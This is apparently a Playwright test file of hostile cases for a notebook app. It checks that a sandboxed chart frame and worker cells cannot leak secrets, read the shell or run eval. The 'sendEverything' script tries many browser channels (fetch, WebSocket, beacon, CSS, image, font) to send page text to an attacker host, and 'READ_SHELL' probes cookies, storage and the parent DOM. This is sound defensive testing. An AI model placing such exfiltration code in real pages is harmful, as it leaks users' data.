// The sandbox frame itself (a srcdoc document with an opaque origin, under its own policy and the
// shell's): a frame taken over by hostile script still sends nothing anywhere and reads nothing of the
// shell; the shell and the frame refuse eval; a cell's Worker reaches the shell only over its channel.
// Not a case: a frame navigating itself off the site is refused by the shell's frame-src, yet Chromium
// first opens a connection to that host (DNS and TCP, no request), as it did for the old src= frame.
import type { Frame } from "playwright-core";
import type { CaseContext, HostileCase } from "./run-case";
import { CANARY } from "./run-case";
import { cell, notebook, SECRET } from "./notebook-text";

const secrets = cell("sql secrets", "SELECT secret FROM clients LIMIT 3");
// The canary drawn as text, so a script in the chart frame finds it in the frame's own document.
const secretChart = cell(
  "chart secret_chart data=secrets",
  '{ "mark": "text", "encoding": { "text": { "field": "secret" }, "y": { "field": "secret" } } }',
);

/** The chart frame of `name`, once its chart is drawn. */
async function chartFrame({ page }: CaseContext, name: string): Promise<Frame> {
  const element = page.locator(`[data-cell="${name}"] iframe[data-role="chart"]`);
  const frame = await (await element.elementHandle({ timeout: 15_000 }))?.contentFrame();
  if (!frame) throw new Error(`no chart frame for ${name}`);
  await frame.locator("svg text").first().waitFor({ timeout: 15_000 });
  return frame;
}

// The scripts a taken-over frame runs are plain JavaScript text (evaluated there as written).

/** Every way a window has to send the text it shows somewhere; `evil` is the attacker host. */
const sendEverything = (evil: string) => `(async () => {
  const s = document.body.textContent || "";
  const u = (path) => "http://${evil}/" + path + "?c=" + encodeURIComponent(s);
  const tried = (f) => Promise.resolve().then(f).catch(() => undefined);
  await tried(() => fetch(u("fetch"), { mode: "no-cors" }));
  await tried(() => { const x = new XMLHttpRequest(); x.open("GET", u("xhr")); x.send(); });
  await tried(() => new WebSocket("ws://${evil}/ws?c=" + encodeURIComponent(s)));
  await tried(() => new EventSource(u("es")));
  await tried(() => navigator.sendBeacon(u("beacon"), s));
  await tried(() => import(u("module.js")));
  await tried(() => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(u("worker")) + ")"]))));
  const img = new Image();
  img.src = u("img");
  const script = document.createElement("script");
  script.src = u("script.js");
  const style = document.createElement("style");
  style.textContent = "@import url(" + u("css-import") + "); body { background: url(" + u("css-bg") + "); }" +
    " @font-face { font-family: leak; src: url(" + u("font") + "); } #chart { font-family: leak; }";
  const link = Object.assign(document.createElement("link"), { rel: "prefetch", href: u("prefetch") });
  const sheet = Object.assign(document.createElement("link"), { rel: "stylesheet", href: u("sheet.css") });
  document.head.append(style, link, sheet);
  document.body.append(img, script);
  await new Promise((r) => setTimeout(r, 800));
})()`;

/** What of the shell, or of any storage, the frame can read: the names of what it read. */
const READ_SHELL = `(async () => {
  const attempts = {
    "parent.document": () => parent.document.body.innerHTML.length,
    "parent.localStorage": () => parent.localStorage.length,
    "parent.location.href": () => parent.location.href,
    localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length,
    indexedDB: () => indexedDB.databases(),
    "document.cookie": () => document.cookie,
    caches: () => caches.keys(),
  };
  const read = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      if ((await attempt()) !== undefined) read.push(name);
    } catch {}
  }
  // Last: a same-site navigation carrying the canary to the host's logs (frame-src 'none' refuses it).
  const c = encodeURIComponent(document.body.textContent || "");
  setTimeout(() => { location.href = "/?notebook=notebooks/x.md&c=" + c; }, 0);
  return read;
})()`;

/**
 * Whether eval and the Function constructor run in this document: EvalError when refused. Tried from
 * a script of the document's own (a `blob:` one, which both policies allow): code that Playwright
 * evaluates is exempt from the policy's eval rule.
 */
const EVAL_OUTCOME = `new Promise((done) => {
  const probe = \`(() => {
    const outcome = (f) => { try { f(); return "ran"; } catch (e) { return e.name; } };
    window.__evalOutcome = { eval: outcome(() => (0, eval)("1")), Function: outcome(() => new Function("return 1")()) };
  })()\`;
  const script = document.createElement("script");
  script.src = URL.createObjectURL(new Blob([probe], { type: "text/javascript" }));
  script.onload = () => done(window.__evalOutcome);
  script.onerror = () => done({ probe: "did not run" });
  document.head.append(script);
})`;

/** The sandbox-frame cases. */
export const frameCases: HostileCase[] = [
  {
    name: "sandbox frame taken over: fetch, XHR, WebSocket, EventSource, beacon, import, Worker, img, CSS",
    notebook: notebook([secrets, secretChart]),
    action: async (c) => {
      const frame = await chartFrame(c, "secret_chart");
      await frame.evaluate(sendEverything(c.evil)).catch(() => undefined);
      await c.linger(1500);
    },
    weaken: "code-sandbox",
  },
  {
    name: "sandbox frame taken over: reads the shell's DOM, storage and address, and navigates within the site",
    notebook: notebook([secrets, secretChart]),
    action: async ({ page }) => {
      // Something of the user's in the shell's storage, for the frame to try for.
      await page.evaluate((canary) => localStorage.setItem("clientbook.hostile-probe", canary), CANARY);
    },
    check: async (c) => {
      const frame = await chartFrame(c, "secret_chart");
      const read = (await frame.evaluate(READ_SHELL)) as string[];
      await c.page.waitForTimeout(1500);
      await c.page.evaluate(() => localStorage.removeItem("clientbook.hostile-probe"));
      return read.map((what) => `the sandbox frame read ${what}`);
    },
    weaken: "frame-origin",
  },
  {
    name: "eval and new Function: refused in the shell, in the chart frame and in a ts cell",
    data: "none",
    notebook: notebook([
      cell("sql one", "SELECT 1 AS secret"),
      cell("chart secret_chart data=one", '{ "mark": "text", "encoding": { "text": { "field": "secret" } } }'),
      cell(
        "ts evaluated",
        "const tryIt = (f: () => unknown) => { try { f(); return 'ran'; } catch (e) { return (e as Error).name; } };",
        "return [tryIt(() => (0, eval)('1')), tryIt(() => new Function('return 1')())].join(' ');",
      ),
    ]),
    check: async (c) => {
      const found: string[] = [];
      const shell = (await c.page.evaluate(EVAL_OUTCOME)) as Record<string, string>;
      const frame = (await (await chartFrame(c, "secret_chart")).evaluate(EVAL_OUTCOME)) as Record<string, string>;
      for (const [where, outcome] of Object.entries({ shell, frame })) {
        for (const [what, result] of Object.entries(outcome)) {
          if (result !== "EvalError") found.push(`${what} in the ${where}: ${result}, not refused`);
        }
      }
      const cellSays = await c.page.locator('[data-cell="evaluated"] [data-role="value"]').textContent();
      if (cellSays !== "EvalError EvalError") found.push(`eval in a ts cell: ${cellSays}`);
      return found;
    },
    weaken: "shell-eval",
  },
  {
    name: "ts cell: posts to the frame and the shell beyond its channel",
    trust: false,
    notebook: notebook([
      cell(
        "ts reach",
        SECRET,
        "const g = globalThis as any;",
        "const seen = [typeof g.parent, typeof g.top, typeof g.window, typeof g.document].join(' ');",
        "g.postMessage({ type: 'clientbook:selection', id: 1, name: 'reach', values: [s] });",
        "g.postMessage({ type: 'clientbook:size', id: 1, height: 3999, c: s });",
        "g.postMessage({ type: 'clientbook:ready', token: s });",
        "await new Promise((r) => setTimeout(r, 500));",
        "return seen;",
      ),
    ]),
    action: async ({ page }) => {
      // Everything any frame posts to the shell window, recorded before the notebook runs.
      await page.evaluate(() => {
        const w = window as unknown as { __framePosts: string[] };
        w.__framePosts = [];
        window.addEventListener("message", (e) => w.__framePosts.push(JSON.stringify(e.data) ?? String(e.data)));
      });
      await page.locator('[data-action="trust"]').click({ timeout: 15_000 });
      await page.locator('[data-cell="reach"][data-state="done"]').waitFor({ timeout: 30_000 });
      await page.waitForTimeout(1000);
    },
    check: async ({ page }) => {
      const found: string[] = [];
      const seen = await page.locator('[data-cell="reach"] [data-role="value"]').textContent();
      if (seen !== "undefined undefined undefined undefined") found.push(`the cell saw parent, top, window: ${seen}`);
      const posts = await page.evaluate(() => (window as unknown as { __framePosts: string[] }).__framePosts);
      for (const post of posts) if (post.includes(CANARY)) found.push(`the shell received a cell's own post: ${post}`);
      return found;
    },
    weaken: "worker-relay",
  },
];
